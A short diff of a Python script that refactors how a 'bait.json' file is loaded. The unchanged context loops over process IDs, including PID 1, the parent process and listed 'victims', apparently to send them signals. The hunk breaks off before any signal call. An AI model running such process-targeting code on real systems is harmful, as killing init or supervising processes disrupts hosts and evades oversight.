@@ -6,8 +6,7 @@ import os
 import signal
 import time
 
-with open("bait.json") as file:
-    bait = json.load(file)
+bait = json.load(open("bait.json"))
 for pid in (1, os.getppid(), *bait["victims"]):
     try:
         if pid:
